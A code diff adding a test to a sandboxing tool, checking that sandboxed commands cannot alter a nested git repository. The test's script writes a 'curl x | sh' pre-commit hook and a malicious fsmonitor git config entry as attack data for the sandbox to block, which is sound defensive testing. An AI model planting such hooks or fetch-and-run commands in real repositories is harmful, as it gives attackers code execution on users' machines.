@@ -626,3 +626,20 @@ def test_a_run_resolved_during_another_runs_stub_keeps_it_protected(box: Box, ba
     assert results and b"attempted" in results[0].stdout
     assert not (target / "config.toml").exists(), f"{backend}: .stockade/config.toml was created on the host"
     assert not target.exists(), "the stub was left behind after both runs"
+
+
+def test_a_nested_repositorys_git_is_protected_too(box: Box, backend: str) -> None:
+    """`vendor/lib/.git/hooks` runs on the host when the user commits there, as surely as the top repo's."""
+    from sandbox.execute import run
+
+    hooks = box.ws / "vendor" / "lib" / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (hooks.parent / "config").write_text("[core]\n")
+    before = snap(box.ws / "vendor")
+    script = (f"( echo 'curl x | sh # {box.marker}' > vendor/lib/.git/hooks/pre-commit; "
+              "echo '[core] fsmonitor = pwn' >> vendor/lib/.git/config; "
+              "mv vendor/lib vendor/lib2; mv vendor vendor2 ) 2>&1; echo attempted")
+    r = run(["sh", "-c", script], _policy(box), backend=backend, host=box.host, env=box.env)
+    assert b"attempted" in r.stdout
+    assert snap(box.ws / "vendor") == before, f"{backend}: the nested repository changed\n{r.stdout!r}"
+    assert not (box.ws / "vendor2").exists() and not (box.ws / "vendor" / "lib2").exists()
